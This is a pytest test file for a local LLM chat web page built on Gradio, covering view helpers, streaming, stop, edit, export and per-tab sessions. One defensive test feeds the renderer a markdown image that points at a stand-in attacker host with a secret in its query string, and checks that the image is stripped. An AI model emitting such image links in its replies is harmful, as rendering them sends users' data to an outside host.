"""``qwen-magic web``: the pure view helpers, the lazy gradio import, and the real page.

The page tests start one ``python -m qwen_magic web tiny --max-model-len 1024`` subprocess for
the module (the tiny random-weight model on the CPU) and drive it with Debian's headless
Chromium (Playwright, never a downloaded browser) and with ``gradio_client``. The screenshot for
the README is written to ``docs/images/web.png``.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_util import CHROMIUM, CHROMIUM_ARGS, _free_port

from qwen_magic.conversation import Turn
from qwen_magic.sampling import SETTINGS
from qwen_magic.web import view

ROOT = Path(__file__).parent.parent
SCREENSHOT = ROOT / "docs" / "images" / "web.png"
LOCAL = {"NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost"}


# ---------------------------------------------------------------- pure view, lazy import


def test_importing_the_package_or_loading_the_extension_imports_no_gradio() -> None:
    code = (
        "import sys\n"
        "import qwen_magic, qwen_magic.web, qwen_magic.web.view, qwen_magic.__main__\n"
        "from IPython.testing.globalipapp import start_ipython\n"
        "start_ipython().run_line_magic('load_ext', 'qwen_magic')\n"
        "print([m for m in ('gradio', 'gradio_client') if m in sys.modules])\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "[]"


def test_chat_messages_show_thoughts_collapsed_and_interrupted_replies_marked() -> None:
    turns = [
        Turn("hi", "hello", key="a", reasoning="let me think"),
        Turn("more", "partial", key="b", interrupted=True),
    ]
    messages = view.chat_messages(turns, {"a": 2.04})
    assert [m["role"] for m in messages] == ["user", "assistant", "assistant", "user", "assistant"]
    assert messages[1]["metadata"] == {"title": "Thought for 2.0 s", "status": "done"}
    assert "⏹ interrupted" in messages[4]["content"]
    assert [view.turn_of_message(turns, index) for index in range(5)] == [0, 0, 0, 1, 1]


def test_streaming_messages_show_a_pending_thought_until_the_answer_starts() -> None:
    thinking = view.streaming_messages([], "q", "", "hmm", time.monotonic())
    assert thinking[-1]["metadata"] == {"title": "Thinking…", "status": "pending"}
    answering = view.streaming_messages([], "q", "A", "hmm", time.monotonic() - 3)
    assert answering[1]["metadata"]["status"] == "done"
    assert answering[1]["metadata"]["title"].startswith("Thought for 3.")
    assert answering[-1]["content"] == "A"


def test_model_output_is_rendered_defensively() -> None:
    message = view.answer_message("![x](http://evil.example/?q=secret)")
    assert "![" not in message["content"]


def test_controls_come_from_the_settings_table_and_send_only_what_moved() -> None:
    shown = view.controls({"temperature": 0.7}, max_model_len=1024)
    assert [control.setting.name for control in shown] == [item.name for item in SETTINGS]
    starts = {control.setting.name: control.start for control in shown}
    assert starts["temperature"] == 0.7 and starts["max_tokens"] == 256 and starts["seed"] is None
    values = [control.start for control in shown]
    values[[c.setting.name for c in shown].index("max_tokens")] = 3.0
    values[-1] = " 42 "
    assert view.changed_sampling(shown, values) == {"max_tokens": 3, "seed": 42}
    values[-1] = "abc"
    with pytest.raises(ValueError, match="seed must be"):
        view.changed_sampling(shown, values)


def test_throttle_allows_at_most_twenty_updates_a_second() -> None:
    throttle = view.Throttle()
    started = time.monotonic()
    shown = 0
    while time.monotonic() - started < 0.5:
        shown += throttle.ready()
    assert 5 <= shown <= 11


# ---------------------------------------------------------------- the real page


@pytest.fixture(scope="module")
def web_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """``qwen-magic web tiny`` on a free loopback port, stopped (its whole group) after."""
    pytest.importorskip("gradio")
    from qwen_magic import models

    models.tiny_model_path()  # fetched before the clock starts
    yield from _serve("tiny", tmp_path_factory)


def _serve(model: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    port = _free_port()
    log_path = tmp_path_factory.mktemp("web") / "web.log"
    command = [sys.executable, "-m", "qwen_magic", "web", model, "--max-model-len", "1024"]
    with log_path.open("wb") as log:
        process = subprocess.Popen(
            [*command, "--port", str(port)],
            stdout=log,
            stderr=subprocess.STDOUT,
            env={**os.environ, **LOCAL},
            start_new_session=True,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 240
        while True:
            if process.poll() is not None:
                pytest.fail(f"qwen-magic web exited early:\n{log_path.read_text()[-3000:]}")
            try:
                with urllib.request.urlopen(url, timeout=5) as response:
                    if response.status == 200:
                        break
            except OSError:
                pass
            if time.monotonic() > deadline:
                pytest.fail(f"qwen-magic web did not answer:\n{log_path.read_text()[-3000:]}")
            time.sleep(1)
        yield url
    finally:
        os.killpg(process.pid, signal.SIGINT)  # Ctrl-C: Gradio closes, the engine is freed
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=10)


@pytest.fixture(scope="module")
def browser(web_url: str) -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.skip("Debian's chromium is not installed (apt-get install -y chromium)")
    playwright_api = pytest.importorskip("playwright.sync_api")
    with playwright_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        yield chromium
        chromium.close()


def open_tab(browser: Any, url: str) -> Any:
    """A new tab (its own browser context, so its own Gradio session and conversation)."""
    page = browser.new_context(viewport={"width": 1400, "height": 1100}).new_page()
    page.set_default_timeout(60_000)
    page.goto(url)
    page.locator("#qwen-message textarea").wait_for()
    return page


def set_setting(page: Any, name: str, value: float) -> None:
    box = page.locator(f"#qwen-{name} input[type=number]")
    box.fill(str(value))
    box.press("Enter")


def send(page: Any, message: str, *, wait: bool = True, timeout: float = 120.0) -> None:
    """Type and send ``message``; with ``wait``, until its reply's facts are shown."""
    before = facts(page)
    page.locator("#qwen-message textarea").fill(message)
    page.locator("#qwen-message textarea").press("Enter")
    if wait:
        page.wait_for_function(
            "(before) => document.querySelector('#qwen-facts').innerText !== before",
            arg=before,
            timeout=timeout * 1000,
        )
        wait_until_idle(page, timeout)


def wait_until_idle(page: Any, timeout: float = 120.0) -> None:
    """Until Send is back (the reply finished or was stopped) and the box takes input."""
    page.locator("#qwen-message .submit-button").wait_for(timeout=timeout * 1000)
    page.wait_for_function(
        "() => !document.querySelector('#qwen-message textarea').disabled", timeout=timeout * 1000
    )


def bot_texts(page: Any) -> list[str]:
    return page.locator("#qwen-chat .bot.message").all_inner_texts()


def facts(page: Any) -> str:
    return page.locator("#qwen-facts").inner_text()


def generated(page: Any) -> int:
    match = re.search(r"(\d+) tokens ·", facts(page))
    assert match, f"no reply facts shown: {facts(page)!r}"
    return int(match.group(1))


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_a_reply_streams_into_the_page(browser: Any, web_url: str) -> None:
    page = open_tab(browser, web_url)
    set_setting(page, "max_tokens", 40)
    page.locator("#qwen-system textarea").fill("You are terse.")
    send(page, "Write a short poem about the sea.", wait=False)
    lengths: list[int] = []
    deadline = time.monotonic() + 120
    while page.locator("#qwen-message .stop-button").count() or not lengths:
        texts = bot_texts(page)
        if texts and texts[-1].strip():
            lengths.append(len(texts[-1]))
        assert time.monotonic() < deadline, "the reply never finished"
        time.sleep(0.1)
    wait_until_idle(page)
    assert len(set(lengths)) >= 2, f"the reply did not grow in steps: {lengths}"
    assert generated(page) == 40
    assert "max_tokens=40" in facts(page)
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOT))
    page.context.close()


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_stop_keeps_the_partial_reply_and_leaves_the_engine_idle(
    browser: Any, web_url: str
) -> None:
    page = open_tab(browser, web_url)
    set_setting(page, "max_tokens", 900)  # most of a minute on this CPU
    send(page, "Tell me a very long story.", wait=False)
    page.wait_for_function(
        "() => { const m = document.querySelectorAll('#qwen-chat .bot.message');"
        " return m.length && m[m.length - 1].innerText.trim().length > 10; }"
    )
    started = time.monotonic()
    page.locator("#qwen-message .stop-button").click()
    wait_until_idle(page, timeout=30)
    assert time.monotonic() - started < 20
    partial = bot_texts(page)[-1]
    assert "⏹ interrupted" in partial
    # The engine is idle: the next reply comes at once, in full, after the partial one.
    set_setting(page, "max_tokens", 5)
    started = time.monotonic()
    send(page, "And now?", timeout=60)
    assert time.monotonic() - started < 30
    assert generated(page) == 5
    assert "1 past turn sent" in facts(page)  # the interrupted turn is in the history
    assert "⏹ interrupted" in bot_texts(page)[0]
    page.context.close()


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_max_tokens_slider_reaches_the_next_reply(browser: Any, web_url: str) -> None:
    page = open_tab(browser, web_url)
    set_setting(page, "max_tokens", 3)
    send(page, "Hello")
    assert generated(page) == 3
    assert "max_tokens=3" in facts(page)
    set_setting(page, "max_tokens", 7)
    set_setting(page, "temperature", 0)
    send(page, "Again")
    assert generated(page) == 7
    assert "temperature=0" in facts(page)
    page.context.close()


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_retry_undo_edit_clear_and_export(browser: Any, web_url: str) -> None:
    page = open_tab(browser, web_url)
    set_setting(page, "max_tokens", 6)
    send(page, "First question")
    first_facts = facts(page)
    chat = page.locator("#qwen-chat")

    chat.get_by_label("Retry").first.click()
    page.wait_for_function(
        "(before) => document.querySelector('#qwen-facts').innerText !== before", arg=first_facts
    )
    wait_until_idle(page)
    assert len(bot_texts(page)) == 1 and generated(page) == 6

    before_edit = facts(page)
    chat.get_by_label("Edit").first.click()
    chat.locator("textarea").first.fill("Edited question")
    chat.get_by_role("button", name="Submit").click()
    page.wait_for_function(
        "(before) => document.querySelector('#qwen-facts').innerText !== before", arg=before_edit
    )
    wait_until_idle(page)
    assert chat.locator(".user.message").all_inner_texts() == ["Edited question"]
    assert len(bot_texts(page)) == 1

    page.locator("#qwen-export").click()
    link = page.locator("#qwen-file a").first
    link.wait_for()
    exported = json.loads(page.request.get(link.get_attribute("href")).text())
    assert exported["format"] == "qwen-magic-conversation"
    assert [turn["user"] for turn in exported["turns"]] == ["Edited question"]

    chat.get_by_label("Undo").first.click()  # the edit is undone: the first question is back
    page.wait_for_function(
        "() => document.querySelector('#qwen-chat .user.message').innerText.includes('First')"
    )
    assert len(bot_texts(page)) == 1
    assert "undone" in facts(page)

    send(page, "Another")
    assert len(bot_texts(page)) >= 1
    chat.get_by_label("Clear").first.click()
    page.wait_for_function("() => !document.querySelector('#qwen-chat .bot.message')")
    assert "cleared" in facts(page)
    page.context.close()


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_two_tabs_each_get_their_own_complete_reply(browser: Any, web_url: str) -> None:
    tabs = [open_tab(browser, web_url) for _ in range(2)]
    for tab in tabs:
        set_setting(tab, "max_tokens", 25)
    for number, tab in enumerate(tabs):
        send(tab, f"Message from tab {number}", wait=False)
    for number, tab in enumerate(tabs):
        tab.wait_for_function("() => document.querySelector('#qwen-chat .bot.message')")
        wait_until_idle(tab, timeout=180)
        assert tab.locator("#qwen-chat .user.message").all_inner_texts() == [
            f"Message from tab {number}"
        ]
        assert generated(tab) == 25, facts(tab)
        assert "0 past turns sent" in facts(tab)  # its own conversation, not the other tab's
        tab.context.close()


@pytest.mark.engine
@pytest.mark.slow
def test_gradio_client_chats_in_its_own_conversation(web_url: str) -> None:
    client_module = pytest.importorskip("gradio_client")
    os.environ.update(LOCAL)
    client = client_module.Client(web_url, verbose=False)
    try:
        first = client.predict("Hello", "You are terse.", api_name="/chat")
        second = client.predict("And again", "You are terse.", api_name="/chat")
    finally:
        client.close()
    assert isinstance(first, str) and first.strip()
    assert isinstance(second, str) and second.strip()


@pytest.mark.browser
@pytest.mark.engine
@pytest.mark.slow
def test_a_thinking_models_reasoning_is_a_collapsed_thought(
    browser: Any, thinking_only_model: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """tiny-qwen3-thinking starts every reply inside <think>; random weights never close it, so
    the whole reply is reasoning: a collapsed "Thought for X s" message, and no answer."""
    server = _serve("tiny-qwen3-thinking", tmp_path_factory)
    url = next(server)
    try:
        page = open_tab(browser, url)
        set_setting(page, "max_tokens", 12)
        send(page, "What is 17 * 23?")
        chat = page.locator("#qwen-chat")
        assert "Thought for" in chat.inner_text()
        thought = chat.get_by_text(re.compile(r"Thought for [\d.]+ s")).first
        assert thought.is_visible()
        assert generated(page) == 12
        page.context.close()
    finally:
        server.close()
